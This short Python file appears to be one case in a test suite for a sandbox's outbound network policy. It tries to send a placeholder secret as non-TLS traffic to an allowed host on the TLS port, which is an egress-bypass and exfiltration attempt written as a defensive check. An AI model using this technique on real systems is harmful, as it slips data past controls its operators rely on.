# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: what is no TLS is sent to an allowed name's address, on the port of TLS
# proof: word
# needs: resolver
from attack import SECRET, at_allowed, attempt


@attempt
def send():
    return at_allowed(lambda out: out.send(SECRET.encode()))
